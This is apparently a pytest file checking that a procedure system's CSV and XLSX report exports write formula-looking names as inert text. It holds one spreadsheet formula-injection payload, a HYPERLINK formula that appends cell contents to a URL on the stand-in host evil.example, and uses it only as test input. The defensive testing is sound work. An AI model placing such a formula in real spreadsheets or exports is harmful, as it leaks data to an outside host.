"""Exports: text that a spreadsheet would read as a formula is written as text (docs/security.md, "Exports")."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta, timezone

from openpyxl import load_workbook

from .helpers import FOUR_STEPS, new_dossier

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'


def deploy_named(client, name: str, code: str = "9.000777"):
    xml = FOUR_STEPS.read_text(encoding="utf-8")
    attr = name.replace("&", "&amp;").replace('"', "&quot;").replace("\t", "&#9;").replace("\r", "&#13;")
    xml = xml.replace('name="Thủ tục thử"', f'name="{attr}"').replace("9.000001", code)
    r = client.post(
        "/api/v1/procedures",
        "admin",  # four_steps.bpmn names no agency: province-wide, deployed by an admin (docs/security.md)
        data={"file": (io.BytesIO(xml.encode()), "evil.bpmn")},
        content_type="multipart/form-data",
    )
    assert r.status_code == 201, r.get_json()
    assert r.get_json()["name"] == name
    return code


def test_formula_looking_procedure_names_are_text_in_csv_and_xlsx(client):
    code = deploy_named(client, EVIL)
    new_dossier(client, procedure=code)
    new_dossier(client, procedure=code)
    today = datetime.now(UTC).astimezone(timezone(timedelta(hours=7))).date()
    query = f"from={today - timedelta(days=1)}&to={today}"

    r = client.get(f"/api/v1/reports/summary?{query}&format=csv", "supervisor")
    assert r.status_code == 200, r.get_data(as_text=True)[:300]
    lines = list(csv.reader(io.StringIO(r.get_data().decode("utf-8-sig"))))
    row = next(line for line in lines if line[1] == code)
    assert row[2] == "'" + EVIL  # text, not a live formula
    assert row[3] == "2"  # numbers stay numbers
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for line in lines for cell in line)

    r = client.get(f"/api/v1/reports/summary?{query}&format=xlsx", "supervisor")
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(r.get_data())).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    evil = [c for c in cells if c.value == EVIL]
    assert evil and all(c.data_type == "s" for c in evil)  # a string cell holding the exact name
    assert not any(c.data_type == "f" for c in cells)
    counts = [c for c in cells if c.row == evil[0].row and c.column == 4]
    assert counts[0].value == 2 and counts[0].data_type == "n"


def test_every_formula_start_is_neutralised_in_csv(client):
    from engine.reports import FORMULA_STARTS

    for i, start in enumerate(FORMULA_STARTS):
        deploy_named(client, f"{start}1+1 thủ tục {i}", code=f"9.00078{i}")
        new_dossier(client, procedure=f"9.00078{i}")
    today = datetime.now(UTC).astimezone(timezone(timedelta(hours=7))).date()
    r = client.get(f"/api/v1/reports/summary?from={today}&to={today}&format=csv", "supervisor")
    lines = list(csv.reader(io.StringIO(r.get_data().decode("utf-8-sig"))))
    names = {line[1]: line[2] for line in lines if line[1].startswith("9.00078")}
    assert len(names) == len(FORMULA_STARTS)
    assert all(name.startswith("'") for name in names.values()), names
